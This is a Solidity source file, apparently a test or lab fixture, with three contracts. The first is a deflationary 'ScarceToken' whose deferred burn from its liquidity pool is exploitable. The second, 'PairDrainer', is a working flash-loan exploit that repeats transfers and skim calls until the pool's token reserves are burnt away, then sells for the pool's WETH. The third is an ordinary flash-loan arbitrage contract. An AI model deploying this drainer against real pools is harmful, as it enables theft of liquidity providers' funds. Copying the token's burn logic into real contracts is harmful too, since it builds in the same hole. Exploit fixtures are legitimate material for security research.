// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {FlashLender, IBorrower, Pool} from "../props/Markets.sol";
import {Token} from "../props/Tokens.sol";

/// Gets scarcer with every sale: what was sold is burnt from the pool's own holdings with the next transfer.
contract ScarceToken is Token {
    Pool public pair;
    uint256 public pending;
    uint256 public immutable floor;
    address public immutable owner = msg.sender;

    constructor(uint256 floor_) Token("SCARCE", 18) {
        floor = floor_;
    }

    function setPair(Pool pair_) external {
        require(msg.sender == owner, "Ownable: caller is not the owner");
        pair = pair_;
    }

    function _move(address from, address to, uint256 value) internal override {
        if (pending > 0 && from != address(pair) && to != address(pair)) {
            uint256 burnt = pending;
            pending = 0;
            if (balanceOf[address(pair)] > burnt + floor) {
                _burn(address(pair), burnt);
                pair.sync();
            }
        }
        if (to == address(pair) && from != owner) pending += value / 20;
        super._move(from, to, value);
    }
}

/// Feeds the counter of sales without selling, until the pool holds next to nothing, and then sells for real.
contract PairDrainer {
    struct Job {
        ScarceToken token;
        uint256 rounds;
        address payee;
    }

    function run(FlashLender lender, uint256 loan, Job calldata job) external {
        Token weth = other(job.token);
        lender.flashLoan(IBorrower(address(this)), weth, loan, abi.encode(job));
        weth.transfer(job.payee, weth.balanceOf(address(this)));
    }

    function onFlashLoan(address, Token weth, uint256 amount, uint256 fee, bytes calldata data)
        external
        returns (bytes32)
    {
        Job memory job = abi.decode(data, (Job));
        (ScarceToken token, Pool pair) = (job.token, job.token.pair());
        weth.approve(address(pair), amount);
        // What is due from others' sales burns first.
        token.transfer(address(this), 0);
        pair.sell(weth, amount, address(this));
        for (uint256 i = 0; i < job.rounds; i++) {
            // In and out again: the pool gives back what it did not expect.
            uint256 there = token.balanceOf(address(pair));
            uint256 mine = token.balanceOf(address(this));
            uint256 push = there * 16;
            token.transfer(address(pair), push < mine ? push : mine);
            pair.skim(address(this));
            token.transfer(address(this), 1);
        }
        uint256 all = token.balanceOf(address(this));
        token.approve(address(pair), all);
        pair.sell(token, all, address(this));
        weth.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }

    function other(ScarceToken token) private view returns (Token) {
        Pool pair = token.pair();
        return pair.token0() == token ? pair.token1() : pair.token0();
    }
}

/// Buys low in one market and sells in another with borrowed coins, which both burn a little.
contract ScarceArbitrage {
    address private immutable owner = msg.sender;

    function run(FlashLender lender, Token weth, uint256 loan, ScarceToken token, Pool cheap, Pool dear) external {
        require(msg.sender == owner, "not the owner");
        lender.flashLoan(IBorrower(address(this)), weth, loan, abi.encode(token, cheap, dear));
        weth.transfer(owner, weth.balanceOf(address(this)));
    }

    function onFlashLoan(address, Token weth, uint256 amount, uint256 fee, bytes calldata data)
        external
        returns (bytes32)
    {
        (Token token, Pool cheap, Pool dear) = abi.decode(data, (Token, Pool, Pool));
        weth.approve(address(cheap), amount);
        uint256 got = cheap.sell(weth, amount, address(this));
        token.approve(address(dear), got);
        dear.sell(token, got, address(this));
        weth.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}
